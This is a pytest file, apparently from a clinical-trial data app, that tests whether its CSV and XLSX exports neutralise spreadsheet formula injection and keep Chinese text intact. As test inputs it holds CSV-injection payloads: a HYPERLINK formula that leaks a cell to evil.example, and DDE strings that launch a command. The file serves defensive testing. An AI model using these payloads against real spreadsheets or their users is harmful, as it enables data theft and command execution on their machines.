"""Issue 13, exports: no CSV of the app carries a live spreadsheet formula, and every CSV
opens Chinese text correctly (UTF-8 byte-order mark).

The attack as a site user makes it: formula payloads typed into the AE form's verbatim
term and into a reason for change, through the real form posts; then each CSV that carries
them is downloaded over HTTP as an investigator, a monitor or the data manager would (the
AE listing, the SDTM AE domain, the audit trail's filtered export and its background
job), parsed, and every payload cell must start with an apostrophe while numbers (-2.5,
12, a negative study day) stay as typed. The XLSX keeps the text verbatim in a string
cell (never a formula). The rule itself (`tabular.csv_safe`) is checked table-driven."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest

from cellstudy.exports import tabular
from cellstudy.exports.tabular import Column, csv_safe, csv_stream
from tests.adverse_events.test_ae_app import ae_post, create, day, sid

BOM = b"\xef\xbb\xbf"
OTHER = "Nervous system disorders - Other, specify"  # a term that takes a verbatim term
#: what a site user types, and what the CSV must hold
PAYLOADS = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2.5": "-2.5",  # a number: unchanged
    "12": "12",
    "头痛伴恶心 (发热)": "头痛伴恶心 (发热)",  # CJK round-trips
}
REASON = "=1+2"  # a formula in a reason for change reaches the audit trail's Reason column


def read(response, *, bom: bool = True) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    data = response.get_data()
    assert data.startswith(BOM) is bom, data[:20]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def live(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula? (Numbers such as -2.5 it reads as numbers.)"""
    return bool(cell) and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?[0-9]*\.?[0-9]+", cell)


def column(rows: list[list[str]], label: str) -> list[str]:
    index = rows[0].index(label)
    return [r[index] for r in rows[1:]]


@pytest.fixture
def payload_aes(app, login):
    """One complete AE per payload at HZ-001, entered by the site's coordinator; the last
    one corrected with a formula as its reason. Returns {verbatim: ae id}."""
    coord = login("coord-hz")
    hz = sid(app, "HZ-001")
    ids = {}
    for verbatim in PAYLOADS:
        ids[verbatim] = create(coord, hz, term=OTHER, verbatim=verbatim, grade="1", onset_date=day(-8))
    url = f"/subjects/{hz}/adverse-events/{ids['12']}"
    version = re.search(r'name="version"[^>]*value="(\d+)"', coord.get(url).get_data(as_text=True)).group(1)
    fields = {"term": OTHER, "verbatim": "12", "grade": "2", "onset_date": day(-8), "reason": REASON}
    response = coord.post(url, data=ae_post(version=version, **fields))
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    return ids


def test_the_ae_listing_csv_guards_formulas_and_keeps_numbers(app, login, payload_aes):
    rows = read(login("inv-hz").get("/safety/ae.csv"))
    assert rows[0][0] == "Subject"  # the BOM is not part of the first header
    verbatims = column(rows, "Verbatim term")
    for typed, written in PAYLOADS.items():
        assert written in verbatims, (typed, verbatims)
        if written != typed:
            assert typed not in verbatims
    days = {int(d) for d in column(rows, "Study day") if d}
    assert min(days) < 0  # onset before the first infusion: a negative study day, unguarded
    assert all(not cell.startswith("'") for cell in column(rows, "Study day") + column(rows, "MedDRA code"))
    assert [c for r in rows for c in r if live(c)] == []


def test_the_sdtm_ae_domain_guards_formulas(app, login, payload_aes):
    rows = read(login("dm").get("/safety/sdtm/ae.csv"))
    assert rows[0][0] == "STUDYID"
    terms = column(rows, "AETERM")
    assert all(written in terms for written in PAYLOADS.values()), terms
    assert [c for r in rows for c in r if live(c)] == []


def test_the_audit_trail_export_guards_formulas(app, login, payload_aes):
    rows = read(login("monitor-hz").get("/audit/export.csv?form=adverse_event"))
    assert rows[0][0] == "Record"
    new_values, reasons = column(rows, "New value"), column(rows, "Reason")
    for typed, written in PAYLOADS.items():
        assert written in new_values, typed
    assert "'" + REASON in reasons and REASON not in reasons
    assert [c for r in rows for c in r if live(c)] == []


def test_the_audit_export_job_guards_formulas_and_keeps_its_bom(app, login, payload_aes, monkeypatch):
    from cellstudy import jobs
    from cellstudy.audit_viewer import routes

    monkeypatch.setattr(routes, "STREAM_MAX_ROWS", 5)  # the filtered export goes to the job pool
    mon = login("monitor-hz")
    for bom in (True, False):
        response = mon.get("/audit/export.csv?form=adverse_event" + ("" if bom else "&bom=0"))
        assert response.status_code == 302
        job_id = int(re.search(r"/jobs/(\d+)", response.headers["Location"]).group(1))
        with app.app_context():
            jobs.wait(job_id, timeout=60)
        rows = read(mon.get(f"/jobs/{job_id}/download"), bom=bom)
        assert "'" + REASON in column(rows, "Reason")
        assert all(written in column(rows, "New value") for written in PAYLOADS.values())
    study = mon.post("/audit/study-export")  # the whole trail, always with the BOM
    job_id = int(re.search(r"/jobs/(\d+)", study.headers["Location"]).group(1))
    with app.app_context():
        jobs.wait(job_id, timeout=60)
    assert "'" + REASON in column(read(mon.get(f"/jobs/{job_id}/download")), "Reason")


def test_bom_0_leaves_the_mark_out_and_a_bad_value_is_named(app, login, payload_aes):
    dm = login("dm")
    rows = read(dm.get("/safety/ae.csv?bom=0"), bom=False)
    assert "'-2+3" in column(rows, "Verbatim term")  # the guard does not depend on the BOM
    assert read(dm.get("/safety/sdtm/ae.csv?bom=0"), bom=False)[0][0] == "STUDYID"
    assert read(dm.get("/audit/export.csv?bom=0&form=screening"), bom=False)[0][0] == "Record"
    for url in ("/safety/ae.csv?bom=maybe", "/safety/sdtm/ae.csv?bom=maybe", "/audit/export.csv?bom=maybe"):
        response = dm.get(url, follow_redirects=True)
        assert response.status_code == 200 and response.mimetype == "text/html", url
        assert "Byte-order mark (bom)" in response.get_data(as_text=True), url


def test_the_xlsx_keeps_the_payload_verbatim_in_a_string_cell(app, login, payload_aes):
    response = login("inv-hz").get("/safety/ae.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    header = [c.value for c in sheet[1]]
    index = header.index("Verbatim term") + 1
    cells = {
        sheet.cell(row=r, column=index).value: sheet.cell(row=r, column=index) for r in range(2, sheet.max_row + 1)
    }
    for typed in PAYLOADS:
        cell = cells[typed]  # verbatim: the XLSX needs no guard
        assert cell.data_type == "s", (typed, cell.data_type)
    assert b"<f>" not in _sheet_xml(response.get_data())  # not a single formula in the sheet


def _sheet_xml(xlsx: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return z.read("xl/worksheets/sheet1.xml")


# --- the rule -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("--1", "'--1"),
        ("-inf", "'-inf"),
        ("+Infinity", "'+Infinity"),
        ("-NaN", "'-NaN"),
        ("-0x1F", "'-0x1F"),
        ("-1_000", "'-1_000"),
        ("-2.5 ", "'-2.5 "),
        ("-٣", "'-٣"),  # an Arabic-Indic digit: not an ASCII number
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        ("-5.", "-5."),
        ("1e3", "1e3"),
        ("-1.5E-4", "-1.5E-4"),
        ("12", "12"),
        ("a=1", "a=1"),
        (" =1", " =1"),  # only the first character counts
        ("'=1", "'=1"),
        ("", ""),
        (None, None),
        (-3, "-3"),
        (Decimal("-2.50"), "-2.50"),
        (float("-inf"), "'-inf"),
    ],
)
def test_csv_safe(value, written):
    assert csv_safe(value) == written


def test_fast_and_slow_paths_agree_on_guards():
    """The line maker's fast path (no quoting) and the csv module path give the same cells."""
    columns = [Column("a", "A"), Column("n", "N", kind="int"), Column("b", "B")]
    rows = [
        {"a": "-2+3", "n": -3, "b": "x"},
        {"a": "x", "n": -3, "b": "-2.5"},
        {"a": "x,y", "n": 1, "b": "=1"},  # quoted row
        {"a": "@a", "n": None, "b": "-"},
        {"a": "ok", "n": 4, "b": "+cmd|' /C calc'!A0"},
    ]
    parsed = list(csv.reader(io.StringIO("".join(csv_stream(columns, rows, bom=False)), newline="")))
    assert parsed[1:] == [
        ["'-2+3", "-3", "x"],
        ["x", "-3", "-2.5"],
        ["x,y", "1", "'=1"],
        ["'@a", "", "'-"],
        ["ok", "4", "'+cmd|' /C calc'!A0"],
    ]


def test_a_header_label_is_guarded_too():
    text = "".join(csv_stream([Column("a", "=A")], []))
    assert text == "\ufeff'=A\r\n"


@pytest.mark.parametrize(
    "raw, bom", [(None, True), ("", True), ("1", True), ("yes", True), ("0", False), ("no", False)]
)
def test_bom_argument(raw, bom):
    assert tabular.bom_argument(raw) is bom


def test_bom_argument_names_the_argument():
    with pytest.raises(ValueError, match=r"\(bom\)"):
        tabular.bom_argument("2")
